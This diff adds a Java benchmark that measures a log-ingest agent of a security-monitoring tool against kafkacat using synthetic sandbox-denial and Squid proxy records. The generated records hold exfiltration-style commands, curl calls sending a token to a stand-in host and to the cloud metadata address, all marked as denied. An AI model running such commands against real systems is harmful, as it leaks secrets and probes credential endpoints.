@@ -1,0 +1,335 @@
+package dev.knockwatch.cli.bench;
+
+import dev.knockwatch.broker.EmbeddedKafkaBroker;
+import dev.knockwatch.cli.Knockwatch;
+import dev.knockwatch.cli.UsageException;
+import dev.knockwatch.events.Json;
+import dev.knockwatch.events.RejectedLine;
+import dev.knockwatch.events.Topics;
+import dev.knockwatch.events.ViolationEvent;
+import dev.knockwatch.ingest.EventSink;
+import dev.knockwatch.ingest.IngestAgent;
+import dev.knockwatch.ingest.KafkaEventSink;
+import java.io.BufferedWriter;
+import java.io.IOException;
+import java.io.PrintWriter;
+import java.lang.management.ManagementFactory;
+import java.lang.management.MemoryPoolMXBean;
+import java.lang.management.MemoryType;
+import java.lang.management.ThreadMXBean;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.Random;
+import java.util.concurrent.Callable;
+import java.util.concurrent.TimeUnit;
+import org.apache.kafka.clients.admin.Admin;
+import org.apache.kafka.clients.admin.AdminClientConfig;
+import org.slf4j.Logger;
+import org.slf4j.LoggerFactory;
+import picocli.CommandLine.Command;
+import picocli.CommandLine.Model.CommandSpec;
+import picocli.CommandLine.Option;
+import picocli.CommandLine.Spec;
+
+/**
+ * Generates N mixed lines (srt records and Squid lines), then, after a warm-up on another tree,
+ * tails, parses and publishes them to an embedded broker in this process; kafkacat publishes
+ * the same bytes unparsed to the same broker before and after (the faster run is the ceiling:
+ * it parses, keys and redacts nothing). CPU is counted per side: the agent's reader, publisher
+ * and producer I/O threads, and kafkacat's own process.
+ */
+@Command(name = "ingest", mixinStandardHelpOptions = true,
+    description = {"Tail -> parse -> publish N generated lines on an embedded broker, beside kafkacat -P on the same bytes."})
+final class IngestBench implements Callable<Integer> {
+
+  private static final Logger log = LoggerFactory.getLogger(IngestBench.class);
+
+  @Spec CommandSpec spec;
+
+  @Option(names = "--lines", defaultValue = "1000000", description = "Lines to generate (default: ${DEFAULT-VALUE}).")
+  int lines;
+
+  @Option(names = "--warmup", defaultValue = "500000", paramLabel = "N",
+      description = "Lines per warm-up round: the in-process agent handles another generated tree of N lines, unmeasured,"
+          + " round after round until the JIT compilers take under a tenth of a round's CPU (at most "
+          + MAX_WARMUP_ROUNDS + " rounds), so the figures are the sustained rate and not the compilers' start"
+          + " (default: ${DEFAULT-VALUE}; 0: a cold start).")
+  int warmup;
+
+  /** A round whose JIT compilers took less than this share of the process's CPU ends the warm-up. */
+  static final double JIT_SETTLED = 0.10;
+  static final int MAX_WARMUP_ROUNDS = 8;
+  private int warmupRounds;
+
+  @Option(names = "--parse-threads", paramLabel = "N",
+      description = "Threads the in-process agent parses with, its reader included (default: the agent's, one a core up to 4).")
+  Integer parseThreads;
+
+  @Option(names = "--no-kafka", description = "Tail and parse only (events are counted, not published): where the time goes.")
+  boolean noKafka;
+
+  @Option(names = "--agent-jvm", paramLabel = "JAVA_OPTS", arity = "0..1", fallbackValue = "-Xmx256m",
+      description = "Run the agent as `knockwatch ingest` in its own JVM (default options: ${FALLBACK-VALUE}) against this"
+          + " process's broker, instead of in this process.")
+  String agentJvm;
+
+  @Option(names = "--json", description = "Print one JSON object instead of text.")
+  boolean json;
+
+  @Option(names = "--kafkacat", defaultValue = "kcat", description = "The kafkacat binary (default: ${DEFAULT-VALUE}, else kafkacat).")
+  String kafkacat;
+
+  @Override
+  public Integer call() throws Exception {
+    if (lines < 1) {
+      throw new UsageException("--lines must be at least 1");
+    }
+    if (warmup < 0) {
+      throw new UsageException("--warmup must be 0 or more");
+    }
+    Path tmp = Files.createTempDirectory("knockwatch-bench-");
+    try (EmbeddedKafkaBroker broker = EmbeddedKafkaBroker.start(tmp.resolve("kafka"), 0)) {
+      broker.createTopics();
+      Path logs = tmp.resolve("logs");
+      List<Path> files = generate(logs, lines);
+      Map<String, Object> result = new LinkedHashMap<>();
+      result.put("lines", lines);
+      result.put("bytes", Files.size(files.get(0)) + Files.size(files.get(1)));
+      result.put("maxHeapBytes", Runtime.getRuntime().maxMemory());
+      if (warmup > 0 && agentJvm == null) {
+        warmupRounds = warmUp(broker, tmp.resolve("warmup"));
+      }
+      // kafkacat runs before and after the agent, and the faster run is the ceiling: the broker
+      // shares this JVM, whose compilers and collector are busier at some times than at others.
+      // It reads one file, as the agent does, not a pipe: a pipe's wake-ups cost it a second per
+      // 1,000,000 lines on this machine's hypervisor.
+      Path joined = Kafkacat.join(files, tmp.resolve("kafkacat.input"));
+      Optional<Kafkacat.Run> kcatBefore = Kafkacat.publish(broker, kafkacat, joined, "bench.raw.before", lines);
+      Side ours = agentJvm != null ? runAgentJvm(broker, logs, tmp, lines, agentJvm) : runIngest(broker, logs);
+      result.put("published", !noKafka);
+      result.put("agent", agentJvm != null ? "own JVM " + agentJvm : "in process");
+      result.put("warmupLines", (long) warmupRounds * warmup);
+      result.put("warmupRounds", warmupRounds);
+      result.put("seconds", ours.seconds());
+      result.put("cpuSeconds", ours.cpuSeconds());
+      result.put("linesPerSecond", Math.round(lines / ours.seconds()));
+      result.put("linesPerCpuSecond", Math.round(lines / ours.cpuSeconds()));
+      result.put("peakHeapBytes", ours.peakHeap());
+      if (!Double.isNaN(ours.jitCpuSeconds())) { // the agent in this process, on Linux
+        result.put("processCpuSeconds", ours.processCpuSeconds());
+        result.put("jitCpuSeconds", ours.jitCpuSeconds());
+      }
+      Optional<Kafkacat.Run> kcatAfter = Kafkacat.publish(broker, kafkacat, joined, "bench.raw.after", lines);
+      kcatBefore.ifPresent(k -> log.info("kafkacat before the agent: {} s", String.format("%.2f", k.seconds())));
+      kcatAfter.ifPresent(k -> log.info("kafkacat after the agent: {} s", String.format("%.2f", k.seconds())));
+      Optional<Kafkacat.Run> kcat = kcatBefore.isEmpty() ? kcatAfter : kcatAfter.isEmpty() ? kcatBefore
+          : Optional.of(kcatBefore.get().seconds() <= kcatAfter.get().seconds() ? kcatBefore.get() : kcatAfter.get());
+      kcat.ifPresent(k -> {
+        result.put("kcatSeconds", k.seconds());
+        result.put("kcatCpuSeconds", k.cpuSeconds());
+        result.put("kcatLinesPerSecond", Math.round(lines / k.seconds()));
+        result.put("kcatLinesPerCpuSecond", Math.round(lines / k.cpuSeconds()));
+        result.put("ratio", Stats.speedRatio(ours.seconds(), k.seconds()));
+        result.put("cpuRatio", Stats.speedRatio(ours.cpuSeconds(), k.cpuSeconds()));
+      });
+      PrintWriter out = spec.commandLine().getOut();
+      if (json) {
+        out.println(Json.write(result));
+      } else {
+        result.forEach((k, v) -> out.println(k + ": " + v));
+        if (kcat.isEmpty()) {
+          out.println("kafkacat: not found (apt-get install kafkacat) — no ceiling measured");
+        }
+      }
+      out.flush();
+    } finally {
+      EmbeddedKafkaBroker.wipe(tmp);
+    }
+    return Knockwatch.OK;
+  }
+
+  /** A run's time and CPU: its own threads', and for the agent in process the whole process's and its JIT compilers'. */
+  record Side(double seconds, double cpuSeconds, long peakHeap, double processCpuSeconds, double jitCpuSeconds) {
+
+    Side(double seconds, double cpuSeconds, long peakHeap) {
+      this(seconds, cpuSeconds, peakHeap, Double.NaN, Double.NaN);
+    }
+  }
+
+  /**
+   * Runs the agent on generated trees of {@link #warmup} lines until a round's JIT compilers
+   * take under {@link #JIT_SETTLED} of the process's CPU, at most {@link #MAX_WARMUP_ROUNDS}
+   * rounds: the broker shares this JVM, and its compilations go on long after the agent's.
+   */
+  private int warmUp(EmbeddedKafkaBroker broker, Path warm) throws Exception {
+    for (int round = 1; ; round++) {
+      generate(warm, warmup);
+      log.info("warm-up round {}: {} lines", round, warmup);
+      Side side = runIngest(broker, warm);
+      EmbeddedKafkaBroker.wipe(warm);
+      double jitShare = side.jitCpuSeconds() / side.processCpuSeconds();
+      if (!(jitShare >= JIT_SETTLED) || round == MAX_WARMUP_ROUNDS) { // NaN: no /proc, one round
+        log.info("warm-up ends after round {}: the JIT compilers took {} % of its CPU", round,
+            Double.isNaN(jitShare) ? "?" : Math.round(jitShare * 100));
+        return round;
+      }
+    }
+  }
+
+  /** 70% srt records over 1,000 commands in 100 files, 30% Squid knock-format lines in one access.log. */
+  static List<Path> generate(Path logs, int n) throws IOException {
+    Random random = new Random(42);
+    Path srtDir = Files.createDirectories(logs.resolve("bench-agent"));
+    Path squidDir = Files.createDirectories(logs.resolve("proxy"));
+    Path allSrt = logs.resolve("all-srt.txt");
+    Path squid = squidDir.resolve("access.log");
+    String[] ids = new String[1000];
+    for (int i = 0; i < ids.length; i++) {
+      ids[i] = String.format("bench%017d", i);
+    }
+    String[] hosts = {"example.com:443", "evil.test:80", "registry.npmjs.org:443", "169.254.169.254:80", "bit.ly:443"};
+    BufferedWriter[] srtFiles = new BufferedWriter[100];
+    for (int f = 0; f < srtFiles.length; f++) {
+      srtFiles[f] = Files.newBufferedWriter(srtDir.resolve(ids[f] + ".violations.jsonl"), StandardCharsets.UTF_8);
+    }
+    long t = Instant.parse("2026-11-29T18:00:00Z").toEpochMilli();
+    try (BufferedWriter all = Files.newBufferedWriter(allSrt, StandardCharsets.UTF_8);
+        BufferedWriter sq = Files.newBufferedWriter(squid, StandardCharsets.UTF_8)) {
+      for (int i = 0; i < n; i++) {
+        String id = ids[random.nextInt(ids.length)];
+        String host = hosts[random.nextInt(hosts.length)];
+        t += random.nextInt(20);
+        if (random.nextInt(10) < 7) {
+          // a command's records in its own file, as the bridge writes them (docs/TRUST.md)
+          int f = i % srtFiles.length;
+          id = ids[f];
+          String line = "{\"line\":\"deny network-outbound " + host + " (host is not on the allow list)\",\"encodedCommand\":\""
+              + Base64.getEncoder().encodeToString(id.getBytes(StandardCharsets.UTF_8))
+              + "\",\"command\":\"curl -s https://" + host + "/path?token=SECRET" + i + "\",\"timestamp\":\""
+              + Instant.ofEpochMilli(t) + "\",\"commandId\":\"" + id + "\"}\n";
+          srtFiles[f].write(line);
+          all.write(line);
+        } else {
+          sq.write(String.format("%d.%03d %6d 127.0.0.1 TCP_DENIED/403 3495 CONNECT %s - %s HIER_NONE/- text/html%n",
+              t / 1000, t % 1000, random.nextInt(5), host, id));
+        }
+      }
+    } finally {
+      for (BufferedWriter w : srtFiles) {
+        w.close();
+      }
+    }
+    return List.of(allSrt, squid);
+  }
+
+  private Side runIngest(EmbeddedKafkaBroker broker, Path logs) throws Exception {
+    ThreadMXBean threads = ManagementFactory.getThreadMXBean();
+    List<MemoryPoolMXBean> heap = ManagementFactory.getMemoryPoolMXBeans().stream()
+        .filter(p -> p.getType() == MemoryType.HEAP).toList();
+    System.gc();
+    heap.forEach(MemoryPoolMXBean::resetPeakUsage);
+    Map<Long, Long> cpuBefore = CpuAccounting.threadCpu(threads, CpuAccounting::ingestThread);
+    Map<Long, Long> allBefore = CpuAccounting.threadCpu(threads, name -> true);
+    Map<String, Long> vmBefore = CpuAccounting.vmThreadCpu();
+    long processBefore = CpuAccounting.processCpuNanos();
+    long t0 = System.nanoTime();
+    try (EventSink sink = noKafka ? new CountingSink() : KafkaEventSink.create(broker.bootstrapServers(), Map.of())) {
+      IngestAgent agent = IngestAgent.forLogDirectory(logs, p -> !p.getFileName().toString().startsWith("all-"),
+          null, sink, "bench", Duration.ofMillis(1));
+      if (parseThreads != null) {
+        agent.parseThreads(parseThreads);
+      }
+      Thread reader = new Thread(agent, "knockwatch-ingest");
+      reader.start();
+      while (!agent.caughtUp()) {
+        Thread.sleep(1);
+      }
+      double seconds = (System.nanoTime() - t0) / 1e9;
+      long cpu = 0;
+      StringBuilder byThread = new StringBuilder();
+      for (Map.Entry<Long, Long> e : CpuAccounting.threadCpu(threads, CpuAccounting::ingestThread).entrySet()) {
+        long used = e.getValue() - cpuBefore.getOrDefault(e.getKey(), 0L);
+        cpu += used;
+        byThread.append(String.format(" %s %.2f s;", threads.getThreadInfo(e.getKey()).getThreadName(), used / 1e9));
+      }
+      log.info("ingest took {} s; CPU by thread:{}", String.format("%.2f", seconds), byThread);
+      long jit = CpuAccounting.logProcessCpu(threads, allBefore, processBefore, vmBefore);
+      agent.close();
+      long peak = heap.stream().mapToLong(p -> p.getPeakUsage().getUsed()).sum();
+      return new Side(seconds, cpu / 1e9, peak, (CpuAccounting.processCpuNanos() - processBefore) / 1e9,
+          jit < 0 ? Double.NaN : jit / 1e9);
+    }
+  }
+
+  /**
+   * The agent as it runs in production: {@code knockwatch ingest} in its own JVM. Time runs from
+   * its start banner to the moment every line is on the topics; CPU is the child's own.
+   */
+  private static Side runAgentJvm(EmbeddedKafkaBroker broker, Path logs, Path tmp, int lines, String javaOpts)
+      throws Exception {
+    String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
+    List<String> cmd = new ArrayList<>(List.of(java));
+    cmd.addAll(List.of(javaOpts.strip().split("\\s+")));
+    cmd.addAll(List.of("-cp", System.getProperty("java.class.path"), Knockwatch.class.getName(), "ingest",
+        "--logs", logs.toString(), "--var", tmp.resolve("agent-var").toString(),
+        "--bootstrap-servers", broker.bootstrapServers()));
+    Files.writeString(tmp.resolve("agent.out"), "");
+    Process agent = new ProcessBuilder(cmd).redirectErrorStream(true).redirectOutput(tmp.resolve("agent.out").toFile()).start();
+    try (Admin admin = Admin.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, broker.bootstrapServers()))) {
+      Instant deadline = Instant.now().plusSeconds(600);
+      while (!Files.readString(tmp.resolve("agent.out")).contains("knockwatch ingest: watching")) {
+        if (!agent.isAlive() || Instant.now().isAfter(deadline)) {
+          throw new IllegalStateException("the agent did not start: " + Files.readString(tmp.resolve("agent.out")));
+        }
+        Thread.sleep(10);
+      }
+      long t0 = System.nanoTime();
+      while (published(admin) < lines) {
+        if (!agent.isAlive() || Instant.now().isAfter(deadline)) {
+          throw new IllegalStateException("the agent stopped before publishing everything");
+        }
+        Thread.sleep(20);
+      }
+      double seconds = (System.nanoTime() - t0) / 1e9;
+      double cpu = agent.info().totalCpuDuration().map(d -> d.toNanos() / 1e9).orElse(Double.NaN);
+      return new Side(seconds, cpu, 0);
+    } finally {
+      agent.destroy();
+      agent.waitFor(30, TimeUnit.SECONDS);
+    }
+  }
+
+  private static long published(Admin admin) throws Exception {
+    return Offsets.records(admin, Topics.VIOLATIONS, Topics.REJECTED);
+  }
+
+  /** Counts what it is given: the benchmark without Kafka. */
+  private static final class CountingSink implements EventSink {
+    long events;
+
+    @Override
+    public void publish(ViolationEvent event) {
+      events++;
+    }
+
+    @Override
+    public void reject(RejectedLine rejected) {
+      events++;
+    }
+
+    @Override
+    public void flush() {}
+
+    @Override
+    public void close() {}
+  }
+}
